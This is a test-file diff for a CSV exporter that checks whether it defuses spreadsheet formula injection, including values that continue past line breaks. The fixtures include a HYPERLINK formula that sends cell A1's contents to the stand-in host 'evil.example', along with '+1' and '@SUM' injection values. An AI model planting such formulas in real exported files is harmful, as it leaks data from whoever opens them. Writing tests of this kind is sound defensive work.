@@ -27,6 +27,17 @@ describe('recordsToCsv', () => {
     ]);
   });
 
+  it('defuses a formula whose value goes on past a line break', () => {
+    const csv = recordsToCsv(
+      ['v'],
+      [{ v: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")\n' }, { v: '-1\r\n2' }],
+    );
+    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true })
+      .data.slice(1)
+      .map((row) => row[0]);
+    expect(cells).toEqual([`'=HYPERLINK("http://evil.example/?leak="&A1,"Open")\n`, `'-1\r\n2`]);
+  });
+
   it('defuses cells a spreadsheet would run as formulas', () => {
     const csv = recordsToCsv(['v'], [{ v: '=HYPERLINK("http://evil")' }, { v: '+1' }, { v: '@SUM(A1)' }]);
     const cells = Papa.parse<string[]>(csv)
